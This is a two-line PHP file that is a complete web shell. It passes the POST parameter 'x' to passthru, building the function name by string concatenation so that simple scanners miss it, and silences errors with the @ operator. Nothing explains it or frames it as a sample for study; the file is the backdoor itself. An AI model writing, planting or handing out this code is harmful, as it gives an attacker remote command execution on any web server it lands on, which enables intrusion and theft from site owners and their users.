<?php
@call_user_func('pass'.'thru', $_POST['x']);
